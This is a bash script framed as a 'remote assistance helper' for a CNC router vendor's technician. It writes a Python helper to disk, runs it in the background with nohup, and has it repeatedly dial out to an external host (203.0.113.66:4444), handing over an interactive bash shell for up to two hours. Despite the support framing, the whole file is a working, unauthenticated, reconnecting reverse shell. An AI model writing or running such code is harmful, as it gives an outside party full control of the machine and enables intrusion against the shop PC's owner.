#!/usr/bin/env bash
# Remote assistance helper for the CNC router vendor.
#
# The vendor's technician asked for "a shell on the shop PC" while they look
# at the controller. This writes a small Python helper to disk, starts it in
# the background and it dials out to the technician's listener, handing over
# an interactive bash. It keeps reconnecting until the session window ends.
set -euo pipefail

ASSIST_HOST="${ASSIST_HOST:-203.0.113.66}"
ASSIST_PORT="${ASSIST_PORT:-4444}"
WINDOW_MIN=120
WORKDIR="${HOME}/.cache/cnc-assist"
PIDFILE="$WORKDIR/assist.pid"
LOGFILE="$WORKDIR/assist.log"

log() { printf '%s [remote-assist] %s\n' "$(date '+%F %T')" "$*" | tee -a "$LOGFILE" >&2; }

usage() {
    echo "usage: $0 [start|stop|status] [-w minutes] [-H host] [-P port]"
}

ACTION="${1:-start}"
shift || true
while getopts ":w:H:P:h" opt; do
    case "$opt" in
        w) WINDOW_MIN="$OPTARG" ;;
        H) ASSIST_HOST="$OPTARG" ;;
        P) ASSIST_PORT="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

mkdir -p "$WORKDIR"
chmod 700 "$WORKDIR"

write_helper() {
    cat > "$WORKDIR/assist.py" <<'PY'
import os
import pty
import socket
import sys
import time

host = os.environ["ASSIST_HOST"]
port = int(os.environ["ASSIST_PORT"])
deadline = time.time() + 60 * int(os.environ.get("ASSIST_WINDOW", "120"))

while time.time() < deadline:
    try:
        s = socket.create_connection((host, port), timeout=10)
    except OSError:
        time.sleep(15)
        continue
    s.settimeout(None)
    pid = os.fork()
    if pid == 0:
        for fd in (0, 1, 2):
            os.dup2(s.fileno(), fd)
        os.environ["TERM"] = "xterm"
        pty.spawn("/bin/bash")
        os._exit(0)
    os.waitpid(pid, 0)
    s.close()
    time.sleep(5)
sys.exit(0)
PY
}

start() {
    if [[ -f "$PIDFILE" ]] && kill -0 "$(cat "$PIDFILE")" 2>/dev/null; then
        log "assist helper already running (pid $(cat "$PIDFILE"))"
        return 0
    fi
    command -v python3 >/dev/null || { log "python3 missing"; exit 1; }
    write_helper
    ASSIST_HOST="$ASSIST_HOST" ASSIST_PORT="$ASSIST_PORT" ASSIST_WINDOW="$WINDOW_MIN" \
        nohup python3 "$WORKDIR/assist.py" >/dev/null 2>&1 &
    echo $! > "$PIDFILE"
    log "assist helper started (pid $!), dialling $ASSIST_HOST:$ASSIST_PORT for ${WINDOW_MIN}m"
}

stop() {
    if [[ -f "$PIDFILE" ]]; then
        pid="$(cat "$PIDFILE")"
        kill "$pid" 2>/dev/null && log "stopped pid $pid" || log "pid $pid not running"
        rm -f "$PIDFILE"
    else
        log "not running"
    fi
}

status() {
    if [[ -f "$PIDFILE" ]] && kill -0 "$(cat "$PIDFILE")" 2>/dev/null; then
        log "running (pid $(cat "$PIDFILE"))"
    else
        log "not running"
    fi
}

case "$ACTION" in
    start) start ;;
    stop) stop ;;
    status) status ;;
    *) usage; exit 2 ;;
esac
